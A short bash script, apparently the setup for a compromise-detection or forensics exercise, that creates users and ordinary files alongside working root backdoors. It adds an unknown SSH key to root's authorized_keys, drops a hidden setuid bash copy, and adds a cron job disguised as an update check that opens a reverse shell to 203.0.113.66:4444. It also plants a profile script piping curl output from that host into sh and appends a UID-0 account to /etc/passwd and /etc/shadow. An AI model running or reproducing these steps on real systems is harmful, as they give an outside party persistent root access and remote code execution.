#!/bin/bash
set -e
useradd -m -s /bin/bash ops
printf 'alice@corp.example\nbob@corp.example\n' > /app/admins.txt
mkdir -p /root/.ssh /etc/cron.d /etc/profile.d /var/spool/cron/crontabs
cat > /root/.ssh/authorized_keys <<'K'
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAliceKeyAliceKeyAliceKey0001 alice@corp.example
ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDattackerKeyZZZZZZZZZZZZ9999 support@cdn-update.net
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBobKeyBobKeyBobKeyBobKey0002 bob@corp.example
K
chmod 700 /root/.ssh && chmod 600 /root/.ssh/authorized_keys
cp /bin/bash /usr/local/bin/.sysupd && chmod 4755 /usr/local/bin/.sysupd
printf '#!/bin/sh\necho helper\n' > /usr/local/bin/report-disk && chmod 0755 /usr/local/bin/report-disk
printf 'SHELL=/bin/sh\n# clean old temp files\n17 3 * * * root find /tmp -mtime +7 -delete\n' > /etc/cron.d/tmp-cleanup
printf 'SHELL=/bin/sh\n*/10 * * * * root /usr/local/bin/.sysupd -p -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1" >/dev/null 2>&1\n' > /etc/cron.d/sys-update-check
chmod 0644 /etc/cron.d/*
printf 'export HTTP_PROXY=http://proxy.corp.example:3128\n' > /etc/profile.d/corp-proxy.sh
printf '# motd helper\n(curl -s http://203.0.113.66/b.sh | sh) >/dev/null 2>&1 &\n' > /etc/profile.d/motd-helper.sh
echo 'sysupd:x:0:0:System Update:/root:/bin/bash' >> /etc/passwd
echo 'sysupd:$6$xyz$JtO9bq0qSb0Y0Q7S4oZ1E4fUJk0N7oQd1yKk0Z2wq7b8hR5U7cQ0s2p4M3rj0xw8M7W8u0z1y2x3w4v5u6t7s.:19800:0:99999:7:::' >> /etc/shadow
